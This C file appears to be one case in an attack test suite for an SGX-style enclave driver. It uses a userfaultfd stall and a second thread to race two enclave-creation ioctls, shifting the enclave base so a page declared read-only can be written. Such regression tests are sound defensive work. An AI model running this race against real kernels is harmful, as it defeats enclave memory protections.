// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * CREATE has seen that the enclave is not created and stops at its argument, which userfaultfd
 * holds back; meanwhile another thread creates the enclave and adds pages. Then the first goes on,
 * with another base, and every page lies at another page's address. R20.1: one at a time. The
 * hole is ioctls_at_once.
 */
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

#include "tricks.h"

struct creating {
	struct scene s;
	struct stall stall;
	int ret;
};

static void *creates(void *arg)
{
	struct creating *c = arg;

	c->ret = ioctl(c->s.e.fd, SGX_IOC_ENCLAVE_CREATE, c->stall.page);
	return NULL;
}

void attack(void)
{
	const struct avow_params params = { .size = 8 * PAGE };
	struct sgx_enclave_create create;
	struct creating c;
	struct scene *s = &c.s;
	pthread_t thread;
	u64 at;

	scene_open(s);
	stall_new(&c.stall);
	REQUIRE(!pthread_create(&thread, NULL, creates, &c));
	stall_wait(&c.stall);

	ATTEMPT_UNRECORDED(avow_enclave_create(&s->e, &params), EBUSY);
	scene_add(s, PAGE, 1, AVOW_R | AVOW_W);
	scene_add(s, 5 * PAGE, 1, AVOW_R);
	at = scene_at(s, 5 * PAGE);
	s->e.secs.base += 4 * PAGE;
	s->e.secs.size = 4 * PAGE;
	create.src = (u64)&s->e.secs;
	stall_end(&c.stall, &create, sizeof(create));
	REQUIRE(!pthread_join(thread, NULL));
	REQUIRE(!c.ret);
	ATTEMPT(s, map_file_at(s, at, 1, PROT_READ | PROT_WRITE, MAP_SHARED, 0));
	attempt_write(s, at + 16, 0x5a);
	got_through("wrote at the address of a page that was declared R");
}
